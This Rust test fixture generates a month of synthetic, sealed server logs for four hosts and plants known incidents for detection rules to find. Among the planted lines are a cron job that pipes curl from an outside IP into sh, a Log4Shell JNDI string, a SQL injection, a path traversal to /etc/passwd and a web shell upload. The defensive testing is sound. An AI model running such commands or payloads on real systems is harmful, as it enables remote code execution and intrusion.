//! Four servers over a month: twenty logs as their programs write them, with incidents put in and records tampered with, all of which is known.
//!
//! The lines are made up; they are sealed by the writer that the programs have, with the times that they would have had.

use std::fs;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::Duration;

use jiff::Timestamp;
use sealedlog::control::Hex;
use sealedlog::record::Framing;
use sealedlog::stream::claim::Claimant;
use sealedlog::stream::state::{Config, StateFolder};
use sealedlog::stream::{Writer, WriterOptions};

use super::lines::Random;

/// 2026-01-01 00:00:00 UTC, in seconds since 1970.
pub const START: i64 = 1_767_225_600;
/// Seconds that the logs last.
pub const LENGTH: i64 = 30 * 86_400;
/// Files of each log.
pub const SEGMENTS: usize = 10;

/// Host, log, and how many lines of a thousand it has.
pub const LOGS: [(&str, &str, usize); 20] = [
    ("web1", "access.log", 300),
    ("web1", "error.log", 10),
    ("web1", "auth.log", 10),
    ("web1", "syslog", 20),
    ("web1", "dpkg.log", 1),
    ("web2", "access.log", 300),
    ("web2", "error.log", 10),
    ("web2", "auth.log", 10),
    ("web2", "syslog", 20),
    ("web2", "dpkg.log", 1),
    ("mail1", "mail.log", 200),
    ("mail1", "auth.log", 10),
    ("mail1", "syslog", 20),
    ("mail1", "kern.log", 10),
    ("mail1", "dpkg.log", 1),
    ("db1", "auth.log", 10),
    ("db1", "syslog", 20),
    ("db1", "cron.log", 15),
    ("db1", "kern.log", 31),
    ("db1", "dpkg.log", 1),
];

/// An incident that was put in: the rule that must find it, where, and whom it is about.
#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
pub struct Incident {
    pub rule: String,
    pub host: String,
    pub log: String,
    pub subject: String,
}

/// Sealed files, and what is in them.
pub struct Scene {
    /// With a folder for each host.
    pub evidence: PathBuf,
    pub incidents: Vec<Incident>,
    pub lines: u64,
}

/// A time in seconds since 1970 and a line.
type Timed = (i64, String);

impl Scene {
    /// Seals about so many lines to a key, below a folder; without incidents where only the everyday is wanted.
    pub fn make(folder: &Path, public: &Path, lines: usize, with_incidents: bool) -> Self {
        let recipients = Arc::new(sealedlog::keys::load(&[public.to_owned()], None).unwrap().recipients);
        let mut scene = Self { evidence: folder.join("evidence"), incidents: Vec::new(), lines: 0 };
        for (number, (host, log, share)) in LOGS.into_iter().enumerate() {
            let place = scene.evidence.join(host);
            fs::create_dir_all(&place).unwrap();
            let claimant = Claimant {
                writer: Hex([number as u8 + 1; 8]),
                recipients: recipients.clone(),
                host: host.to_owned(),
                log: format!("/var/log/{log}"),
                software: "test".to_owned(),
                memory_locked: false,
                lacks: Vec::new(),
            };
            let config = Config {
                log: format!("/var/log/{log}").into(),
                keys: Vec::new(),
                framing: "binary".to_owned(),
                host: host.to_owned(),
                profile: None,
                window: None,
            };
            let mut writer = Writer::new(WriterOptions {
                claimant,
                state: Some(StateFolder::new(&folder.join("state"), &folder.join("run"), &place, log)),
                config,
                framing: Framing::Binary,
                retry_state: Duration::from_secs(60),
                mark_idle: None,
            });
            let count = (lines * share / 1000).max(2 * SEGMENTS);
            let planted = if with_incidents { plant(host, log, &mut scene.incidents) } else { Vec::new() };
            let mut planted = planted.into_iter().peekable();
            let mut random = Random(number as u64 + 1);
            let mut write = |writer: &mut Writer, (time, line): Timed| {
                writer.line(format!("{line}\n").as_bytes(), Timestamp::from_second(time).unwrap()).unwrap();
                scene.lines += 1;
                if writer.waiting() > 1 << 16 {
                    writer.flush().unwrap();
                }
            };
            for at in 0..count {
                if at % count.div_ceil(SEGMENTS) == 0 {
                    let segment = at / count.div_ceil(SEGMENTS) + 1;
                    writer.enter(&place.join(format!("{log}.{segment:02}.pgp")), false).unwrap();
                }
                let time = START + at as i64 * LENGTH / count as i64;
                while let Some(timed) = planted.next_if(|(planted, _)| *planted <= time) {
                    write(&mut writer, timed);
                }
                write(&mut writer, (time, everyday(host, log, time, &mut random)));
            }
            planted.for_each(|timed| write(&mut writer, timed));
            writer.finish().unwrap();
        }
        scene
    }
}

/// A line of a day on which nothing happens.
fn everyday(host: &str, log: &str, time: i64, random: &mut Random) -> String {
    let person = ["alice", "bob", "carol"][random.below(3) as usize];
    let home = format!("198.51.100.{}", 10 + random.below(3));
    match log {
        "access.log" => request(time, random),
        "error.log" => {
            let client = visitor(random);
            apache_error(
                time,
                "core:info",
                &format!("[client {client}:40000] AH00128: File does not exist: /var/www/html/favicon.ico"),
            )
        }
        "auth.log" => match random.below(20) {
            0 => syslog(
                time,
                host,
                "sshd[4242]",
                &format!("Accepted publickey for {person} from {home} port 50022 ssh2: ED25519 SHA256:abc"),
            ),
            1 => syslog(
                time,
                host,
                "sudo",
                &format!("   {person} : TTY=pts/0 ; PWD=/home/{person} ; USER=root ; COMMAND=/usr/bin/apt update"),
            ),
            // A slip, by each once in a while.
            2 => syslog(time, host, "sshd[4243]", &format!("Failed password for {person} from {home} port 50022 ssh2")),
            3 => syslog(time, host, "systemd-logind[600]", &format!("New session 12 of user {person}.")),
            n if n % 2 == 0 => {
                syslog(time, host, "CRON[991]", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)")
            }
            _ => syslog(time, host, "CRON[991]", "pam_unix(cron:session): session closed for user root"),
        },
        "mail.log" => mail(time, random),
        "kern.log" => {
            // What the internet sends: single packets from everywhere.
            let source = format!("203.0.113.{}", 100 + random.below(150));
            let port = [22, 23, 445, 3389][random.below(4) as usize];
            syslog(
                time,
                host,
                "kernel",
                &format!(
                    "[{}.000001] [UFW BLOCK] IN=eth0 OUT= MAC=aa SRC={source} DST=192.0.2.1 LEN=40 PROTO=TCP SPT=4000 DPT={port} ",
                    time - START
                ),
            )
        }
        "cron.log" => syslog(time, host, "CRON[993]", "(root) CMD (   cd / && run-parts --report /etc/cron.hourly)"),
        "dpkg.log" => {
            let stamp = Timestamp::from_second(time).unwrap().strftime("%Y-%m-%d %H:%M:%S");
            format!("{stamp} upgrade libc6:amd64 2.36-9+deb12u{} 2.36-9+deb12u{}", time % 7, time % 7 + 1)
        }
        _ => match random.below(4) {
            0 => syslog(time, host, "systemd[1]", "Starting logrotate.service - Rotate log files..."),
            1 => syslog(time, host, "systemd[1]", "logrotate.service: Deactivated successfully."),
            2 => syslog(time, host, "systemd[1]", "Reloaded apache2.service - The Apache HTTP Server."),
            _ => syslog(time, host, "ntpd[77]", "adjusting local clock by 0.001s"),
        },
    }
}

fn visitor(random: &mut Random) -> String {
    format!("192.0.2.{}", 1 + random.below(254))
}

fn request(time: i64, random: &mut Random) -> String {
    let agents = [
        "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Safari/537.36",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    ];
    let agent = agents[random.below(3) as usize];
    let client = visitor(random);
    let item = random.below(5000);
    let (what, status) = match random.below(1000) {
        0..=5 => ("GET /favicon.ico".to_owned(), 404),
        6..=14 => (format!("GET /products/old-{}", item % 10), 404),
        15 => ("GET /api/v1/orders?page=2".to_owned(), 500),
        16..=20 => ("GET /account".to_owned(), 401),
        21..=60 => (format!("GET /static/site.css?v={item}"), 304),
        61..=120 => (format!("POST /api/v1/orders/{item}"), 201),
        121..=140 => (format!("GET /search?q=select+the+best+union+for+{item}&from=a"), 200),
        _ => (format!("GET /products/{item}?lang=en"), 200),
    };
    access(time, &client, "-", &what, status, agent)
}

fn access(time: i64, client: &str, user: &str, what: &str, status: u16, agent: &str) -> String {
    let stamp = Timestamp::from_second(time).unwrap().strftime("%d/%b/%Y:%H:%M:%S +0000");
    format!("{client} - {user} [{stamp}] \"{what} HTTP/1.1\" {status} 5120 \"-\" \"{agent}\"")
}

fn syslog(time: i64, host: &str, program: &str, message: &str) -> String {
    format!("{}+00:00 {host} {program}: {message}", Timestamp::from_second(time).unwrap().strftime("%Y-%m-%dT%H:%M:%S.000000"))
}

fn apache_error(time: i64, level: &str, message: &str) -> String {
    format!(
        "[{}] [{level}] [pid 800:tid 139] {message}",
        Timestamp::from_second(time).unwrap().strftime("%a %b %d %H:%M:%S.000000 %Y")
    )
}

fn mail(time: i64, random: &mut Random) -> String {
    let id = format!("4XY{:08x}z", random.below(1 << 32)).replace(['a', 'e'], "b");
    let (from, to) = (random.below(400), random.below(4000));
    let line = |program: &str, message: String| syslog(time, "mail1", program, &message);
    match random.below(200) {
        0 => line(
            "postfix/smtpd[70]",
            format!(
                "NOQUEUE: reject: RCPT from unknown[192.0.2.{}]: 554 5.7.1 <u{to}@example.net>: Relay access denied; from=<a@example.com> to=<u{to}@example.net> proto=ESMTP helo=<h>",
                from % 250
            ),
        ),
        1 if from < 40 => line(
            "postfix/smtp[71]",
            format!(
                "{id}: to=<u{to}@example.net>, relay=mx.example.net[198.51.100.25]:25, delay=1.1, delays=0.1/0/0.4/0.6, dsn=5.1.1, status=bounced (host said: 550 no such user)"
            ),
        ),
        2 if from < 40 => line(
            "postfix/submission/smtpd[72]",
            format!("warning: unknown[192.0.2.{from}]: SASL PLAIN authentication failed: UGFzc3dvcmQ6, sasl_username=user{from}"),
        ),
        // Four hundred accounts, none of which sends much.
        3..=6 => line(
            "postfix/submission/smtpd[72]",
            format!("{id}: client=home.example.org[192.0.2.{}], sasl_method=PLAIN, sasl_username=user{from}", from % 250),
        ),
        7..=60 => line("postfix/smtpd[70]", format!("connect from mail.example.com[198.51.100.{}]", from % 250)),
        61..=110 => line("postfix/cleanup[73]", format!("{id}: message-id=<{id}@example.com>")),
        111..=150 => line("postfix/qmgr[74]", format!("{id}: from=<user{from}@example.org>, size=5120, nrcpt=1 (queue active)")),
        _ => line(
            "postfix/smtp[71]",
            format!(
                "{id}: to=<u{to}@example.net>, relay=mx.example.net[198.51.100.25]:25, delay=1.1, delays=0.1/0/0.4/0.6, dsn=2.0.0, status=sent (250 2.0.0 Ok)"
            ),
        ),
    }
}

/// What is put into a log, in the order of time.
fn plant(host: &str, log: &str, incidents: &mut Vec<Incident>) -> Vec<Timed> {
    const DAY: i64 = 86_400;
    let mut lines: Vec<Timed> = Vec::new();
    let mut expect = |rule: &str, subject: &str| {
        let (host, log) = (host.to_owned(), format!("/var/log/{log}"));
        incidents.push(Incident { rule: rule.to_owned(), host, log, subject: subject.to_owned() });
    };
    let day = |day: i64| START + day * DAY;
    let ssh = |time, what: String| (time, syslog(time, host, "sshd[5000]", &what));
    let web = |time, client: &str, what: &str, status| (time, access(time, client, "-", what, status, "Mozilla/5.0"));
    match (host, log) {
        ("web1", "auth.log") => {
            // A password is guessed, and an account with the rights of root made.
            let at = day(9) + 7000;
            lines.extend(
                (0..60).map(|n| ssh(at + 4 * n, format!("Failed password for bob from 203.0.113.66 port {} ssh2", 40000 + n))),
            );
            lines.push(ssh(at + 260, "Accepted password for bob from 203.0.113.66 port 41000 ssh2".to_owned()));
            lines.push((
                at + 300,
                syslog(
                    at + 300,
                    host,
                    "useradd[5100]",
                    "new user: name=toor, UID=0, GID=0, home=/root, shell=/bin/sh, from=/dev/pts/1",
                ),
            ));
            expect("ssh-many-failures", "203.0.113.66");
            expect("ssh-login-after-failures", "203.0.113.66");
            expect("account-uid-0", "useradd");
            let at = day(11);
            lines.push((at, syslog(at, host, "sudo", "www-data : TTY=unknown ; PWD=/var/www ; USER=root ; COMMAND=/bin/sh")));
            expect("service-account-uses-sudo", "www-data");
        }
        ("web2", "auth.log") => {
            let at = day(4);
            lines
                .extend((0..20).map(|n| {
                    ssh(at + 5 * n, format!("Failed password for invalid user u{n} from 203.0.113.77 port 50022 ssh2"))
                }));
            expect("ssh-many-failures", "203.0.113.77");
            expect("ssh-password-spraying", "203.0.113.77");
            let at = day(6);
            lines.push((
                at,
                syslog(
                    at,
                    host,
                    "sudo",
                    "mallory : user NOT in sudoers ; TTY=pts/2 ; PWD=/home/mallory ; USER=root ; COMMAND=/usr/bin/id",
                ),
            ));
            expect("sudo-refused", "mallory");
        }
        ("db1", "auth.log") => {
            let at = day(20);
            lines.extend(
                (0..15)
                    .map(|n| ssh(at + 200 * n, format!("Failed password for alice from 203.0.113.{} port 50022 ssh2", 120 + n))),
            );
            expect("ssh-distributed-guessing", "alice");
        }
        ("web1", "access.log") => {
            let at = day(2);
            lines.extend((0..120).map(|n| web(at + n, "203.0.113.5", &format!("GET /admin/test{n}.php"), 404)));
            expect("web-scan", "203.0.113.5");
            let at = day(8);
            lines.push(web(at, "203.0.113.9", "POST /uploads/2026/01/avatar.php", 200));
            expect("web-shell", "203.0.113.9");
            lines.push(web(at + 60, "203.0.113.12", "GET /products?id=1%27%20UNION%20SELECT%20password%20FROM%20users--", 500));
            expect("web-sql-injection", "203.0.113.12");
            let at = day(15);
            lines.extend((0..3000).map(|n| web(at + n / 50, "203.0.113.200", "GET /", 200)));
            expect("web-flood", "203.0.113.200");
            let at = day(16);
            lines.extend((0..200).map(|n| web(at + n, &format!("192.0.2.{}", n % 200), "GET /api/v1/orders", 503)));
            expect("web-error-burst", "");
        }
        ("web2", "access.log") => {
            let at = day(3);
            lines.push((at, access(at, "203.0.113.14", "-", "GET /", 200, "sqlmap/1.8#stable (https://sqlmap.org)")));
            expect("web-scanner", "203.0.113.14");
            lines.push((at + 5, access(at + 5, "203.0.113.15", "-", "GET /", 200, "${jndi:ldap://203.0.113.15/a}")));
            expect("web-log4shell", "203.0.113.15");
            lines.push(web(at + 9, "203.0.113.16", "GET /.env", 404));
            expect("web-probe", "203.0.113.16");
            lines.push(web(at + 12, "203.0.113.17", "GET /cgi-bin/.%2e/.%2e/.%2e/etc/passwd", 400));
            expect("web-traversal", "203.0.113.17");
            let at = day(18);
            lines.extend((0..60).map(|n| web(at + 3 * n, "203.0.113.201", "GET /", 408)));
            expect("web-slow", "203.0.113.201");
        }
        ("web2", "error.log") => {
            let at = day(18);
            lines.push((
                at,
                apache_error(at, "mpm_event:error", "AH00484: server reached MaxRequestWorkers setting, consider raising it"),
            ));
            expect("apache-exhausted", "");
        }
        ("mail1", "mail.log") => {
            let at = day(12);
            let line = |time, program: &str, message: String| (time, syslog(time, host, program, &message));
            lines.extend((0..30).map(|n| {
                line(
                    at + 3 * n,
                    "postfix/submission/smtpd[72]",
                    "warning: unknown[203.0.113.88]: SASL LOGIN authentication failed: UGFzc3dvcmQ6, sasl_username=user7"
                        .to_owned(),
                )
            }));
            lines.extend((0..400).map(|n| {
                line(
                    at + 200 + n,
                    "postfix/submission/smtpd[72]",
                    format!("4ZZ{n:08}z: client=unknown[203.0.113.88], sasl_method=LOGIN, sasl_username=user7"),
                )
            }));
            expect("mail-many-login-failures", "203.0.113.88");
            expect("mail-login-after-failures", "203.0.113.88");
            expect("mail-outgoing-burst", "user7");
            let at = day(13);
            lines.extend((0..40).map(|n| line(at + n, "postfix/smtpd[70]", format!("NOQUEUE: reject: RCPT from unknown[203.0.113.89]: 550 5.1.1 <n{n}@example.org>: Recipient address rejected: User unknown in local recipient table; from=<a@b.example> to=<n{n}@example.org> proto=ESMTP helo=<h>"))));
            expect("mail-harvest", "203.0.113.89");
        }
        ("db1", "cron.log") => {
            let at = day(21);
            lines.push((at, syslog(at, host, "CRON[995]", "(postgres) CMD (curl -fsSL http://203.0.113.90/x | sh)")));
            expect("cron-fetch-and-run", "postgres");
        }
        ("db1", "dpkg.log") => {
            let at = day(21);
            lines.push((
                at,
                format!(
                    "{} remove fail2ban:all 1.0.2-2 <none>",
                    Timestamp::from_second(at).unwrap().strftime("%Y-%m-%d %H:%M:%S")
                ),
            ));
            expect("package-guard-removed", "fail2ban");
        }
        ("mail1", "kern.log") => {
            let at = day(22);
            lines.extend((0..6).map(|n| {
                (
                    at + 20 * n,
                    syslog(
                        at + 20 * n,
                        host,
                        "kernel",
                        "[900.1] smtpd[71]: segfault at 0 ip 00007f0000000000 sp 00007ffd00000000 error 4 in libc.so.6",
                    ),
                )
            }));
            expect("segfault-burst", "");
        }
        ("db1", "syslog") => {
            let at = day(23);
            lines.push((at, syslog(at, host, "systemd[1]", "postgresql.service: Failed with result 'exit-code'.")));
            expect("service-failed", "postgresql.service");
        }
        _ => {}
    }
    lines.sort_by_key(|(time, _)| *time);
    lines
}
